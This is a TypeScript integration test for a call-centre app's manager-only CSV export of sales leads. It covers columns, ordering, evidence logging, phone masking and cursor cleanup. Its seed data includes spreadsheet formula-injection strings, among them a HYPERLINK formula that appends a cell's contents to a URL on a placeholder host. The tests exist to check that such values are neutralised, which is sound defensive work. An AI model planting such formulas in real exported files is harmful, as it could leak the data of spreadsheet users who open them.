// Leads downloaded as CSV through the real app builder and Postgres: every lead of a list and none
// of another's, or every lead a search finds; its numbers, where it stands, its last call and
// disposition, the fields it was loaded with as columns, text a spreadsheet would take for a
// formula made harmless, the export kept in the evidence log; managers only; read in batches, let
// go when the reader or the download stops.

import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createAuthenticator } from '../../../src/adapters/http/authenticate.js';
import { buildApp } from '../../../src/adapters/http/build-app.js';
import { leadExportRoutes } from '../../../src/adapters/http/routes/lead-export-routes.js';
import { createLogger } from '../../../src/adapters/log/logger.js';
import { createCampaign } from '../../../src/adapters/pg/campaign-repository.js';
import { exportLeads } from '../../../src/adapters/pg/lead-export.js';
import { createList, insertLeads } from '../../../src/adapters/pg/lead-repository.js';
import { createTestPool, truncateTables } from '../../helpers/db.js';

const pool = createTestPool();
let app: FastifyInstance;
const tokens = [
  { token: 'mgr', role: 'manager' as const, name: 'Mia' },
  { token: 'sup', role: 'supervisor' as const, name: 'Sam' },
];
const as = (token: string) => ({ authorization: `Bearer ${token}` });

beforeAll(async () => {
  app = await buildApp({ routes: leadExportRoutes({ pool }), authenticate: createAuthenticator(tokens, null), logger: createLogger({ level: 'silent' }) });
});
afterAll(async () => {
  await app.close();
  await pool.end();
});
beforeEach(async () => {
  await truncateTables(pool, ['campaigns', 'attempts', 'evidence_log']);
});

async function seed() {
  const { id: campaignId } = await createCampaign(pool, { name: `export-${Math.random()}`, timezone: 'America/New_York', seedDispositions: false });
  const spring = await createList(pool, { campaignId, name: 'spring' });
  const autumn = await createList(pool, { campaignId, name: 'autumn' });
  const [ann, bob, eve] = await insertLeads(pool, spring.id, [
    { externalId: 'CRM-1', firstName: 'Ann', lastName: 'Smith', phones: ['+12125550100', '+13125550101'], grade: 'A', postalCode: '10001',
      timezone: 'America/New_York', fields: { industry: 'retail', status: 'gold', seats: 12 } },
    { firstName: '=HYPERLINK("http://example.com")', lastName: 'Jones', phones: ['+12125550102'], status: 'exhausted',
      fields: { industry: 'software', '=HYPERLINK("http://example.com/?x="&B2)': 'x' } },
    { firstName: 'Eve', phones: ['+12125550103'], status: 'retry', nextDialAt: new Date('2030-01-08T15:00:00Z') },
  ]) as [string, string, string];
  await insertLeads(pool, autumn.id, [{ firstName: 'Other', phones: ['+12125550199'] }]);
  // Ann was called twice: a no answer, then a talk dispositioned as a sale.
  const attempt = async (outcome: string, endedAt: string) => (await pool.query<{ id: string }>(
    `INSERT INTO attempts (campaign_id, lead_id, e164, status, outcome, created_at, ended_at) VALUES ($1, $2, '+12125550100', 'ended', $3, $4, $4) RETURNING id`,
    [campaignId, ann, outcome, endedAt])).rows[0]?.id;
  await attempt('no_answer', '2030-01-06T14:00:00Z');
  const sale = await attempt('connected', '2030-01-07T15:00:00Z');
  await pool.query(`INSERT INTO dispositions (attempt_id, campaign_id, lead_id, code, notes, created_at) VALUES ($1, $2, $3, 'SALE', '-2 seats, call back', '2030-01-07T15:01:00Z')`, [sale, campaignId, ann]);
  await pool.query(`UPDATE leads SET attempts = 2, last_outcome = 'connected', last_attempt_at = '2030-01-07T15:00:00Z', status = 'done', stage = 'opportunity' WHERE id = $1`, [ann]);
  return { campaignId, spring: spring.id, ann, bob, eve };
}

describe("a list's leads as CSV", () => {
  it('gives every lead of the list as it stands, with its loaded fields as columns, and keeps the export in the evidence log', async () => {
    const { campaignId, spring, ann, bob, eve } = await seed();
    const response = await app.inject({ method: 'GET', url: `/api/lists/${spring}/leads.csv`, headers: as('mgr') });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="leads-list-${spring}.csv"`);
    const rows = parse(response.body, { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(rows[0] ?? {})).toEqual([
      'lead_id', 'campaign', 'list', 'external_id', 'first_name', 'last_name', 'phone', 'other_phones', 'status', 'stage', 'grade', 'priority', 'timezone',
      'postal_code', 'dials', 'last_outcome', 'last_called_at', 'next_dial_at', 'last_disposition', 'last_disposition_notes', 'last_disposition_at',
      'prerecorded_consent',
      // Loaded fields, sorted; one named like a standard column is kept apart from it.
      // A field named like a formula (the mapping came with the list) heads its column as text.
      '\'=HYPERLINK("http://example.com/?x="&B2)', 'industry', 'seats', 'field_status',
    ]);
    expect(rows.map((row) => row.lead_id)).toEqual([ann, bob, eve]);
    expect(rows[0]).toMatchObject({
      campaign: expect.stringMatching(/^export-/), list: 'spring', external_id: 'CRM-1', first_name: 'Ann', last_name: 'Smith', phone: "'+12125550100", other_phones: "'+13125550101", status: 'done',
      stage: 'opportunity', grade: 'A', postal_code: '10001', timezone: 'America/New_York', dials: '2', last_outcome: 'connected',
      last_called_at: '2030-01-07T15:00:00.000Z', next_dial_at: '', last_disposition: 'SALE', last_disposition_notes: "'-2 seats, call back",
      last_disposition_at: '2030-01-07T15:01:00.000Z', prerecorded_consent: 'no', industry: 'retail', seats: '12', field_status: 'gold',
    });
    // A name a spreadsheet would run as a formula is kept as text.
    expect(rows[1]).toMatchObject({ first_name: '\'=HYPERLINK("http://example.com")', status: 'exhausted', next_dial_at: '', industry: 'software', seats: '', last_disposition: '' });
    expect(rows[2]).toMatchObject({ first_name: 'Eve', status: 'retry', next_dial_at: '2030-01-08T15:00:00.000Z', dials: '0', last_called_at: '' });

    const evidence = await pool.query<{ campaign_id: string; payload: unknown }>("SELECT campaign_id::text, payload FROM evidence_log WHERE kind = 'leads_exported'");
    expect(evidence.rows).toEqual([{ campaign_id: campaignId, payload: { by: 'Mia', role: 'manager', listId: spring, list: 'spring' } }]);
  });

  it('ends the reading when the download is given up half way', async () => {
    const { id: campaignId } = await createCampaign(pool, { name: `export-big-${Math.random()}`, timezone: 'America/New_York', seedDispositions: false });
    const list = await createList(pool, { campaignId, name: 'big' });
    await insertLeads(pool, list.id, Array.from({ length: 20_000 }, (_, i) => ({ firstName: `Lead${i}`, lastName: 'Many', phones: [`+1212${String(5_000_000 + i)}`] })));
    const url = await app.listen({ host: '127.0.0.1', port: 0 });
    const aborted = new AbortController();
    const response = await fetch(`${url}/api/lists/${list.id}/leads.csv`, { headers: as('mgr'), signal: aborted.signal });
    expect(response.status).toBe(200);
    const reader = response.body?.getReader();
    expect((await reader?.read())?.done).toBe(false);
    aborted.abort();
    // The cursor's transaction ends and its connection goes back to the pool.
    const openTransactions = async () => (await pool.query<{ n: number }>(
      "SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'")).rows[0]?.n;
    await expect.poll(openTransactions, { timeout: 10_000 }).toBe(0);
    await expect.poll(() => pool.totalCount - pool.idleCount).toBe(0);
    app.server.closeAllConnections();
    // Twenty thousand leads to load first: seconds here, several times that on a loaded machine.
  }, 90_000);

  it('is for managers only, and says which list does not exist', async () => {
    const { spring } = await seed();
    expect((await app.inject({ method: 'GET', url: `/api/lists/${spring}/leads.csv`, headers: as('sup') })).statusCode).toBe(403);
    const missing = await app.inject({ method: 'GET', url: '/api/lists/999999/leads.csv', headers: as('mgr') });
    expect(missing.statusCode).toBe(404);
    expect(missing.json<{ message: string }>().message).toBe('list 999999 does not exist');
    expect((await pool.query("SELECT 1 FROM evidence_log WHERE kind = 'leads_exported'")).rowCount).toBe(0);
  });

  it('reads a list in batches, each lead once, in order, and lets go when the reader stops', async () => {
    const { id: campaignId } = await createCampaign(pool, { name: `export-many-${Math.random()}`, timezone: 'America/New_York', seedDispositions: false });
    const list = await createList(pool, { campaignId, name: 'many' });
    const ids = await insertLeads(pool, list.id, Array.from({ length: 7 }, (_, i) => ({ firstName: `Lead${i}`, phones: [`+1212555030${i}`] })));
    const seen: string[] = [];
    for await (const lead of exportLeads(pool, { criteria: { listId: list.id }, order: 'loaded' }, { batchSize: 3 })) seen.push(lead.id);
    expect(seen).toEqual(ids);

    // A reader that stops half way (a download given up) leaves no transaction open and the connection back in the pool.
    const firstTwo: string[] = [];
    for await (const lead of exportLeads(pool, { criteria: { listId: list.id }, order: 'loaded' }, { batchSize: 3 })) {
      firstTwo.push(lead.id);
      if (firstTwo.length === 2) break;
    }
    expect(firstTwo).toEqual(ids.slice(0, 2));
    expect(pool.totalCount - pool.idleCount).toBe(0);
    const open = await pool.query<{ n: number }>("SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'");
    expect(open.rows[0]?.n).toBe(0);
  });
});

describe('the leads a search finds, as CSV', () => {
  const download = async (query: string, token = 'mgr') => app.inject({ method: 'GET', url: `/api/leads.csv?${query}`, headers: as(token) });
  const rowsOf = (body: string) => parse(body, { columns: true }) as Array<Record<string, string>>;

  it('takes every lead the search finds, in its order, with its campaign and list, and keeps what was asked in the evidence log', async () => {
    const { campaignId, ann, eve } = await seed();
    const other = await seed();
    await pool.query("UPDATE leads SET stage = 'appointment' WHERE id = $1", [eve]);

    // The campaign's opportunities and appointments (for sales), newest first; the other campaign's are not taken.
    const appointments = await download(`campaignId=${campaignId}&stage=appointment`);
    expect(appointments.statusCode, appointments.body).toBe(200);
    expect(appointments.headers['content-disposition']).toBe(`attachment; filename="leads-campaign-${campaignId}.csv"`);
    expect(rowsOf(appointments.body).map((row) => row.lead_id)).toEqual([eve]);
    const opportunities = rowsOf((await download(`campaignId=${campaignId}&stage=opportunity&grade=A`)).body);
    expect(opportunities).toEqual([expect.objectContaining({ lead_id: ann, list: 'spring', stage: 'opportunity', industry: 'retail', field_status: 'gold' })]);

    // A campaign's every lead, newest first, its loaded fields the columns of the leads taken.
    const all = await download(`campaignId=${campaignId}`);
    expect(rowsOf(all.body).map((row) => row.lead_id)).toEqual([...(await leadIdsOf(campaignId))].reverse());
    expect(all.body.split('\n')[0]).toContain(',industry,seats,field_status');

    // The leads called lately, the last called first; never called, left out; another campaign's, too.
    await pool.query("UPDATE leads SET last_attempt_at = '2030-01-08T09:00:00Z', attempts = 1 WHERE id = ANY($1)", [[eve, other.bob]]);
    const called = await download(`campaignId=${campaignId}&order=lastCalled`);
    expect(rowsOf(called.body).map((row) => row.lead_id)).toEqual([eve, ann]);

    // By a number: the log keeps it masked. A search that finds nothing is a header alone.
    const byPhone = rowsOf((await download(`phone=${encodeURIComponent('(312) 555-0101')}&campaignId=${campaignId}`)).body);
    expect(byPhone.map((row) => row.lead_id)).toEqual([ann]);
    const none = await download(`campaignId=${campaignId}&q=nobody`);
    expect(none.statusCode).toBe(200);
    expect(none.body.trim()).toBe('lead_id,campaign,list,external_id,first_name,last_name,phone,other_phones,status,stage,grade,priority,timezone,postal_code,dials,last_outcome,last_called_at,next_dial_at,last_disposition,last_disposition_notes,last_disposition_at,prerecorded_consent');

    const evidence = await pool.query<{ campaign_id: string | null; payload: Record<string, unknown> }>(
      "SELECT campaign_id::text, payload FROM evidence_log WHERE kind = 'leads_exported' ORDER BY id");
    expect(evidence.rows.map((row) => row.payload)).toEqual([
      { by: 'Mia', role: 'manager', campaignId, stage: 'appointment', order: 'newest' },
      { by: 'Mia', role: 'manager', campaignId, stage: 'opportunity', grade: 'A', order: 'newest' },
      { by: 'Mia', role: 'manager', campaignId, order: 'newest' },
      { by: 'Mia', role: 'manager', campaignId, order: 'lastCalled' },
      { by: 'Mia', role: 'manager', campaignId, e164: expect.stringMatching(/^\+\*+0101$/), order: 'newest' },
      { by: 'Mia', role: 'manager', campaignId, textSearched: true, order: 'newest' },
    ]);
    expect(evidence.rows.map((row) => row.campaign_id)).toEqual(Array(6).fill(campaignId));
  });

  it('is for managers only, takes one campaign, and says which does not exist', async () => {
    const { campaignId } = await seed();
    expect((await download(`campaignId=${campaignId}`, 'sup')).statusCode).toBe(403);
    const missing = await download('campaignId=999999');
    expect(missing.statusCode).toBe(404);
    expect(missing.json<{ message: string }>().message).toBe('campaign 999999 does not exist');
    const badStage = await download(`campaignId=${campaignId}&stage=closed`);
    expect(badStage.statusCode).toBe(400);
    // Every campaign's at once would go on no campaign's record.
    const noCampaign = await download('stage=appointment');
    expect(noCampaign.statusCode).toBe(400);
    expect(noCampaign.json<{ message: string }>().message).toContain('campaignId: choose a campaign');
    expect((await pool.query("SELECT 1 FROM evidence_log WHERE kind = 'leads_exported'")).rowCount).toBe(0);
  });
});

async function leadIdsOf(campaignId: string): Promise<string[]> {
  return (await pool.query<{ id: string }>('SELECT id::text FROM leads WHERE campaign_id = $1 ORDER BY id', [campaignId])).rows.map((row) => row.id);
}
